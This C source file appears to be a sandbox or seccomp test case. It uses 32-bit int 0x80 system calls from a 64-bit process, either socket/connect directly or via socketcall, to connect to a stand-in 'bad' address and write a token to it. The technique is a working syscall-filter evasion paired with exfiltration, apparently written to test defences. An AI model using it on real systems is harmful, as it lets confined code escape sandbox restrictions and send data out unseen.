// The 32-bit convention, from a 64-bit program.
#include "attack.h"

static long int80(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c)
                     : "memory", "r8", "r9", "r10", "r11");
    if (result < 0 && result > -4096) { errno = -result; return -1; }
    return result;
}

int main(int argc, char **argv) {
    begin(argc, argv);
    // What is pointed to must be within reach of 32 bits.
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED) fail();
    struct sockaddr_in a = in4(bad);
    memcpy(low, &a, sizeof a);
    unsigned *arguments = (unsigned *)(low + 64);
    int fd;
    if (is("direct")) {
        fd = must(int80(359, AF_INET, SOCK_STREAM, 0));
        must(int80(362, fd, (long)low, sizeof a));
    } else {
        arguments[0] = AF_INET; arguments[1] = SOCK_STREAM; arguments[2] = 0;
        fd = must(int80(102, 1, (long)arguments, 0));
        arguments[0] = fd; arguments[1] = (unsigned)(long)low; arguments[2] = sizeof a;
        must(int80(102, 3, (long)arguments, 0));
    }
    write_token(fd);
    return 0;
}
